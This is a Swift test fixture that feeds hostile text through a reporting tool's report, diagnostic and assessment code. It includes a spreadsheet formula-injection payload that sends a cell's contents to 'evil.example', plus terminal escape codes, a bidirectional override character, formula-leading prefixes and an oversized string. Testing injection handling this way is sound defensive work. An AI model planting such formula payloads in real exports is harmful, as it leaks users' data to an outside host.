import Diagnostics
import Documents
import Engine
import Facts
import FoundationEssentials
import Reports
import Rules

/// Entries whose every text tries to be something else.
enum HostileEntries {
  static let formula = #"=HYPERLINK("http://evil.example/?"&A1,"click")"#
  static let control =
    "\u{1B}[31m\u{7}\r\n\t_x0041_\u{202E}\u{FFFE}\u{FFFF}\u{2028}, \"q\" <b>&amp;"
  static let long = String(repeating: "长", count: 40_000)
  /// What the rows of a table of text tell, with three findings listed.
  static let kinds =
    ["kind"] + [String](repeating: "problem", count: 4) + [String](repeating: "finding", count: 3)
    + ["more", "unreadable", "problem"]

  /// A report of the pack with rules of every kind.
  static func report() throws -> Report {
    Report(
      version: "=0", pack: try Pack.load(folder + "/Fixtures/pack"), asOf: nil,
      time: Instant(seconds: 1_768_872_600))
  }

  private static let folder =
    "/" + #filePath.split(separator: "/").dropLast(2).joined(separator: "/")

  /// A filing, one that cannot be read, and a file with a problem.
  static func entries() throws -> [ReportEntry] {
    let message = Diagnostic.Message(
      "=code", LocalizedText(verbatim: "@" + control), help: LocalizedText(verbatim: "+" + long))
    let problem = Diagnostic(message, at: .file("-" + control))
    return [
      .init(source: formula, result: .assessed(try assessment())),
      .init(
        source: control, file: FileDigest(name: control, sha256: "00"),
        result: .unreadable([problem])),
      .init(source: "", result: .notes(FileNotes(problems: [FilingProblem(problem)]))),
    ]
  }

  private static func assessment() throws -> Assessment {
    let pack = try Pack.load(folder + "/Fixtures/pack")
    let facts: [String: [[String: String]]] = [
      "tickets": [
        ["number": formula, "desk": control, "agent": long],
        ["number": control, "desk": control, "agent": "+1"],
        ["number": long, "desk": formula, "agent": "@x"],
      ]
    ]
    let filing = try JSONEncoder().encode([
      "subject": ["id": control, "name": formula],
      "period": ["from": "2019-01-01", "to": "2019-12-31"],
    ])
    let text =
      #"{"filing":"# + String(decoding: filing, as: UTF8.self) + #","facts":"#
      + String(decoding: try JSONEncoder().encode(facts), as: UTF8.self) + "}"
    let documents = try DocumentReader.read(
      Array(text.utf8), name: formula, format: .json, limits: .filing)
    var assessor = Assessor(pack, explaining: Set(Outcome.allCases))
    let record = documents.map { FactReader(pack.dictionary).filing(from: $0) }
    guard let first = record.first else { throw DiagnosticError([]) }
    return assessor.assess(first)
  }
}
